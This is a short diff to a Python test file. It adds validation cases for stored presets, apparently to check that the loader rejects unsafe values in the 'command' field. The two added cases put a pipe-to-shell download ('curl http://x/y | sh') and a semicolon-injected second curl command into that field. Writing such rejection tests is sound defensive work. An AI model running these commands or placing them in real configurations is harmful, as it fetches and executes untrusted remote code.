@@ -304,6 +304,8 @@ def stored(folder: Path, edit: Callable[[list[Any]], object]) -> None:
         (lambda presets: presets[0]["measured"].update(ms=float("nan")), "presets.0.measured.ms"),
         (lambda presets: presets[0].update(name="../x"), "presets.0.name"),
         (lambda presets: presets[0].pop("command"), "presets.0.command"),
+        (lambda presets: presets[0].update(command="curl http://x/y | sh"), "presets.0.command"),
+        (lambda presets: presets[0].update(command="elit-export tune b; curl http://x/y"), "presets.0.command"),
         (lambda presets: presets[0].update(name="best"), "presets: Value error, two presets have one name"),
     ],
 )
